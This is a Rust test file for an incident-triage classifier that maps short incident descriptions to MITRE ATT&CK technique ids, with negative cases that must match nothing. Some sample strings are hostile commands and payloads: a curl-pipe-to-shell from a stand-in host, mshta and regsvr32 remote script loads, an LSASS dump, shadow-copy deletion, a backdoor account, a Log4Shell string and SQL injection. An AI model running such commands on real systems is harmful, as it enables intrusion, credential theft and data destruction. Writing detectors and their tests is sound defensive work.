//! Evidence by a table: what a text says, and which techniques it shows. Positive cases ask that
//! the ids are among those shown; negative ones that nothing is. Long because it is a
//! table.

use text::Document;
use triage::techniques::shown;

fn ids(text: &str) -> Vec<String> {
    let hits = shown(text, &Document::new(text));
    hits.into_iter().map(|hit| hit.id).collect()
}

#[test]
fn texts_show_what_they_say() {
    let mut missed = Vec::new();
    for (expected, text) in SHOWN {
        let found = ids(text);
        for id in expected.split(' ') {
            if !found.iter().any(|found| found == id) {
                missed.push(format!("{id} not in {found:?}: {text}"));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn denied_and_everyday_texts_show_nothing() {
    let mut wrong = Vec::new();
    for text in NOTHING {
        let found = ids(text);
        if !found.is_empty() {
            wrong.push(format!("{found:?}: {text}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn confidence_grows_with_the_number_of_phrases() {
    let confidence = |text: &str| {
        let hits = shown(text, &Document::new(text));
        let hit = hits.into_iter().find(|hit| hit.id == "T1486");
        hit.map_or(0.0, |hit| hit.confidence)
    };
    for (text, expected) in [
        ("Files were encrypted.", 0.6),
        (
            "Files were encrypted. Files were encrypted. Folders were encrypted.",
            0.6,
        ),
        ("Files were encrypted and there is a ransom note.", 0.8),
        (
            "LockBit: files were encrypted and there is a ransom note.",
            0.9,
        ),
        ("T1486", 0.95),
    ] {
        assert!((confidence(text) - expected).abs() < 1e-6, "{text}");
    }
}

#[test]
fn spans_are_the_words_as_written() {
    let text = "Encoded PowerShell ran \u{2014} then vssadmin.exe DELETE Shadows, T1490.";
    let hits = shown(text, &Document::new(text));
    let hit = hits.iter().find(|hit| hit.id == "T1490").unwrap();
    let words: Vec<&str> = hit.spans.iter().map(|span| span.of(text)).collect();
    assert_eq!(words, ["vssadmin", "DELETE Shadows", "T1490"]);
    assert!(
        hits.windows(2)
            .all(|pair| pair[0].confidence >= pair[1].confidence)
    );
}

const SHOWN: &[(&str, &str)] = &[
    (
        "T1566.002",
        "The user clicked the link in the email and landed on a fake Microsoft login page.",
    ),
    (
        "T1566.002",
        "The poster in the car park asked me to scan a QR code to pay for parking.",
    ),
    (
        "T1566.002",
        "Mail with a shortened link that leads to a copy of our HR portal.",
    ),
    (
        "T1566.001",
        "Email with a password protected zip attached, supposedly an invoice.",
    ),
    (
        "T1566.001",
        "She opened the attachment and Word asked to enable macros.",
    ),
    (
        "T1566.003",
        "A recruiter on LinkedIn sent a message with a link to a job offer.",
    ),
    (
        "T1566.003",
        "Parcel SMS with a link, smishing, several drivers got it.",
    ),
    (
        "T1566.004",
        "Caller claimed to be from the help desk and wanted the one-time code, vishing.",
    ),
    (
        "T1566.004",
        "A man rang reception saying he is from the bank.",
    ),
    (
        "T1598.003",
        "I entered my password on the page before I noticed.",
    ),
    (
        "T1566",
        "User reported a suspicious email, looks like phishing.",
    ),
    ("T1656", "Mail pretending to be our managing director."),
    (
        "T1657",
        "Fake invoice: bank details changed, EUR 48,300 transferred to the wrong account.",
    ),
    ("T1657", "The boss asked her to buy gift cards urgently."),
    ("T1672", "Spoofed sender, SPF fail, DMARC reject."),
    (
        "T1583.001",
        "Sender uses a lookalike domain registered two days ago.",
    ),
    (
        "T1204.002",
        "User opened the invoice and WINWORD.EXE spawned powershell.exe.",
    ),
    (
        "T1204.004",
        "Fake captcha told him to press Windows + R and paste the command.",
    ),
    ("T1059.001", "powershell.exe -NoP -W Hidden -Enc SQBFAFgA"),
    ("T1059.001", "Encoded PowerShell launched by the macro"),
    ("T1059.003", "explorer.exe spawned cmd.exe /c whoami"),
    (
        "T1059.004",
        "nginx spawned a shell: /bin/bash -c \"curl http://203.0.113.7/x | sh\"",
    ),
    ("T1059.005", "Obfuscated VBA macro in the spreadsheet."),
    (
        "T1059.007",
        "Stored XSS in the comment field steals document.cookie",
    ),
    (
        "T1059.006",
        "A python reverse shell was running on the build host.",
    ),
    ("T1047", "wmic /node:SRV-02 process call create"),
    ("T1053.005", "schtasks /create /sc minute /tn Updater"),
    (
        "T1053.005",
        "A scheduled task was created to run the payload every hour.",
    ),
    (
        "T1053.003",
        "New cron job pulls a miner every five minutes.",
    ),
    (
        "T1547.001",
        "Adds itself to HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    ),
    ("T1547.001", "Shortcut dropped in the startup folder."),
    (
        "T1543.003",
        "EventID 7045: new service installed named WinUpdSvc",
    ),
    ("T1543.002", "systemd service created for persistence"),
    ("T1546.003", "Persistence through a WMI event subscription."),
    (
        "T1055",
        "Code injected into explorer.exe via CreateRemoteThread.",
    ),
    ("T1055.012", "Process hollowing of svchost"),
    (
        "T1027",
        "Heavily obfuscated script with base64 encoded strings.",
    ),
    (
        "T1027.006",
        "HTML smuggling: the attachment builds a zip in the browser",
    ),
    (
        "T1036.005",
        "svchost.exe running from C:\\Users\\Public\\Temp",
    ),
    (
        "T1036.007",
        "The file was named invoice.pdf.exe, a double extension.",
    ),
    (
        "T1070.001",
        "Security event log cleared, wevtutil cl Security",
    ),
    ("T1070.001", "Event ID 1102, the audit log was cleared."),
    ("T1070.004", "The dropper deleted itself after execution."),
    ("T1070.006", "Timestomping on the dropped DLL."),
    (
        "T1562.001",
        "Attacker disabled Windows Defender before running the tool.",
    ),
    (
        "T1562.001",
        "The EDR agent stopped reporting on both servers.",
    ),
    (
        "T1562.008",
        "CloudTrail logging was stopped with StopLogging.",
    ),
    ("T1562.004", "netsh advfirewall set allprofiles state off"),
    ("T1218.011", "rundll32.exe C:\\ProgramData\\x.dll,Start"),
    ("T1218.005", "mshta http://203.0.113.7/a.hta"),
    (
        "T1218.010",
        "regsvr32 /s /u /i:http://203.0.113.7/x.sct scrobj.dll",
    ),
    ("T1140", "certutil -decode payload.txt payload.exe"),
    ("T1105", "certutil -urlcache -f http://203.0.113.7/b.exe"),
    (
        "T1105",
        "It downloaded a second stage payload from an unknown server.",
    ),
    ("T1003.001", "procdump -ma lsass.exe lsass.dmp"),
    ("T1003", "Mimikatz found on the jump host."),
    ("T1003.003", "ntds.dit copied from the domain controller"),
    (
        "T1003.006",
        "DCSync from a workstation that is not a domain controller",
    ),
    (
        "T1558.003",
        "Kerberoasting: hundreds of service tickets requested with RC4",
    ),
    ("T1558.001", "Golden ticket with a ten year lifetime"),
    ("T1550.002", "Pass-the-hash from WS-12 to the file server"),
    (
        "T1110",
        "4,120 failed login attempts in an hour, brute force.",
    ),
    (
        "T1110.003",
        "Password spraying: one password against 300 accounts.",
    ),
    (
        "T1110.004",
        "Credential stuffing against the customer portal.",
    ),
    ("T1110", "My account is locked out again and again."),
    (
        "T1078",
        "Impossible travel: Leeds at 09:12, Lagos at 09:20.",
    ),
    (
        "T1078",
        "She looked up her neighbour's record without a care relationship.",
    ),
    ("T1078.001", "The camera still has the default password."),
    (
        "T1078.004",
        "Root account used in the AWS console without MFA",
    ),
    (
        "T1621",
        "He kept getting approval prompts on his phone at night and finally approved one.",
    ),
    ("T1621", "MFA fatigue against an administrator."),
    (
        "T1111",
        "His SIM was swapped and the bank codes went to the attacker.",
    ),
    (
        "T1556.006",
        "A new authenticator device was registered and the old one removed; MFA was reset by the help desk.",
    ),
    (
        "T1539",
        "Infostealer took session cookies from the browser.",
    ),
    (
        "T1528",
        "User consented to a malicious OAuth app with mail.read.",
    ),
    ("T1552", "AWS keys committed to a public GitHub repo."),
    ("T1552.004", "Our SSH private key was leaked."),
    ("T1555.003", "Malware stole saved passwords from Chrome."),
    (
        "T1098.005",
        "An unknown device was registered in Intune under her account.",
    ),
    ("T1098.007", "The account was added to Domain Admins."),
    ("T1136.001", "net user backdoor Passw0rd /add"),
    (
        "T1021.001",
        "Suspicious RDP session from an internal workstation to the domain controller.",
    ),
    ("T1021.002", "PsExec used to reach other servers."),
    ("T1021.004", "SSH login as root from an unknown address"),
    ("T1570", "The tool was copied to several hosts over SMB."),
    ("T1046", "Port scan of 10.20.4.0/24 from a printer."),
    ("T1046", "nmap sweep of the server subnet"),
    (
        "T1595.002",
        "Nessus scan from outside against our web servers",
    ),
    (
        "T1595.003",
        "Directory brute force with gobuster, thousands of 404s",
    ),
    ("T1018", "net view and ping sweep of the whole subnet"),
    ("T1087.002", "BloodHound collection seen in LDAP logs."),
    ("T1482", "nltest /domain_trusts run on the server"),
    ("T1040", "Somebody ran Wireshark in promiscuous mode."),
    ("T1557.001", "LLMNR poisoning with Responder"),
    ("T1557.002", "ARP spoofing on the guest VLAN"),
    (
        "T1557.004",
        "A rogue access point with our SSID in the car park.",
    ),
    ("T1190", "' UNION SELECT username, password FROM users--"),
    ("T1190", "SQL injection in the search form of the shop."),
    ("T1190", "GET /../../../../etc/passwd, path traversal"),
    ("T1190", "Log4Shell: ${jndi:ldap://203.0.113.7/a}"),
    (
        "T1505.003",
        "A web shell, cmd.aspx, was uploaded to the server.",
    ),
    ("T1505.003", "w3wp.exe spawned cmd.exe"),
    ("T1133", "Exposed RDP on the internet, no gateway."),
    ("T1189", "Drive-by download from a compromised news site"),
    (
        "T1195.001",
        "Malicious npm package: dependency confusion in the build",
    ),
    ("T1195.002", "The vendor's software update was trojanised."),
    (
        "T1199",
        "Attackers came in through our managed service provider's VPN account",
    ),
    (
        "T1091",
        "An infected USB stick found in the car park was plugged in.",
    ),
    ("T1200", "A Raspberry Pi was found behind the printer."),
    (
        "T1486",
        "All files on the shared drive are encrypted and there is a ransom note.",
    ),
    (
        "T1486",
        "Documents were renamed to .locked and we cannot open them.",
    ),
    ("T1490", "vssadmin.exe delete shadows /all /quiet"),
    ("T1490", "Backups were deleted the night before."),
    (
        "T1489",
        "Database services were stopped before the encryption.",
    ),
    (
        "T1485",
        "He deleted the production database on his last day.",
    ),
    ("T1491.002", "Our public website was defaced."),
    ("T1498", "DDoS attack saturated the uplink, 40 Gbps of UDP."),
    ("T1498.002", "DNS amplification from open resolvers"),
    (
        "T1499.002",
        "HTTP flood on the login endpoint, 90,000 requests per second.",
    ),
    ("T1496", "XMRig connects to a mining pool, CPU at 100%."),
    (
        "T1531",
        "The intruder changed all admin passwords so nobody could get in, locked us out of our accounts.",
    ),
    ("T1565", "Grades were altered directly in the database."),
    ("T1041", "The implant sent documents to its C2 server."),
    (
        "T1048.003",
        "Data left by FTP upload to an external server: exfiltrated via ftp",
    ),
    ("T1071.004", "DNS tunnelling with long random subdomains"),
    (
        "T1567.002",
        "He uploaded the customer list to his personal Google Drive.",
    ),
    ("T1567.002", "rclone copy to mega at 3 am"),
    (
        "T1567",
        "She forwarded the contracts to her private Gmail account.",
    ),
    (
        "T1052.001",
        "Copied 4.2 GB of designs to a USB stick before leaving.",
    ),
    (
        "T1030",
        "The archive was split into 50 MB chunks to stay below the DLP threshold.",
    ),
    ("T1537", "Snapshot shared with an external AWS account."),
    (
        "T1530",
        "Public S3 bucket: customer exports downloaded by strangers.",
    ),
    (
        "T1213.003",
        "He cloned all private repositories in his notice period.",
    ),
    ("T1213.002", "Mass download from SharePoint by a leaver"),
    (
        "T1114.003",
        "Inbox rule forwarding all mail to an outside address.",
    ),
    ("T1564.008", "A rule moves replies to the RSS feeds folder."),
    ("T1074", "Data staged in C:\\PerfLogs before exfiltration"),
    ("T1560.001", "rar.exe a -hpSecret archive.rar"),
    ("T1056.001", "A keylogger was found on the reception PC."),
    (
        "T1113",
        "The malware takes screenshots every minute: took screenshots of the desktop",
    ),
    ("T1115", "Clipboard hijacker replaces wallet addresses."),
    ("T1071.001", "Cobalt Strike beacon over HTTPS"),
    ("T1071", "Beaconing every 60 seconds to the same address."),
    ("T1572", "Reverse tunnel with chisel to a VPS"),
    ("T1090.003", "Connection to a Tor exit node"),
    ("T1571", "Outbound traffic on an unusual port, 4444."),
    ("T1568.002", "DGA domains, hundreds of NXDOMAIN responses"),
    (
        "T1573",
        "Self-signed certificate on the C2 server, outbound TLS",
    ),
    (
        "T1219",
        "AnyDesk was installed and the caller took remote control of her computer.",
    ),
    ("T1102", "C2 over a Telegram bot: commands via Telegram"),
    (
        "T1610",
        "A privileged container was deployed in the cluster.",
    ),
    ("T1611", "Container escape through a mounted docker socket"),
    (
        "T1578.002",
        "Unknown GPU instances were launched in an unused region.",
    ),
    (
        "T1068",
        "Local privilege escalation exploit, escalated to SYSTEM with PrintNightmare.",
    ),
    ("T1548.002", "UAC bypass with fodhelper"),
    ("T1574.001", "DLL sideloading by a signed executable"),
    ("T1484.001", "A GPO was modified to push the ransomware."),
    ("T1014", "Rootkit hides its processes."),
    ("T1207", "DCShadow: rogue domain controller registered"),
    ("T1606.002", "Golden SAML: forged SAML tokens"),
    ("T1649", "Certificate template abuse, ESC1, with Certipy"),
    ("T1176.001", "Malicious browser extension reads every page."),
    (
        "T1667",
        "Email bombing: thousands of newsletter sign-ups in her inbox.",
    ),
    ("T1566.001 T1486", "Seen before: T1566.001 then T1486."),
    ("T1059.001", "mitre=t1059.001 host=LT-4471"),
];

const NOTHING: &[&str] = &[
    "No ransom note was found on any share.",
    "Nothing was encrypted and no files were renamed.",
    "There was no sign of lateral movement.",
    "We saw no evidence of data exfiltration.",
    "The user did not click the link.",
    "Nobody opened the attachment.",
    "She never entered her password.",
    "The attachment was not opened; without any credential dumping.",
    "Lateral movement was not observed.",
    "Data exfiltration has been ruled out.",
    "No malware, lateral movement or credential dumping.",
    "The payload was never executed.",
    "The printer on the second floor is out of toner.",
    "Please reset my password, I forgot it over the holidays.",
    "The mail server was restarted after the update.",
    "Our website has a new home page since Monday.",
    "The quarterly report is attached, please review it by Friday.",
    "I cannot find the link to the canteen menu.",
    "The new laptop arrives tomorrow, the old one goes back.",
    "The conference room camera is booked for Tuesday.",
    "He works from home and uses the company VPN as agreed.",
    "The backup ran at 02:00 and finished without errors.",
    "Take two eggs, a cup of flour and some sugar.",
    "The file server will be replaced in March.",
    "Could you add me to the mailing list of the project?",
    "Invoice 4471 from Kestrel Print is due on 14 March.",
    "The phone in the lobby does not ring.",
    "Our port of call was Lisbon, a bridge spans the river.",
    "A shadow copy of the painting hangs in the hall.",
    "The hash browns were cold.",
    "The beacon on the hill was lit for the jubilee.",
    "Training for new staff starts at nine.",
    "T9999 and T1566.999 are no techniques.",
    "The user asked how to enable dark mode.",
    "The text message arrived late. Works again now.",
];
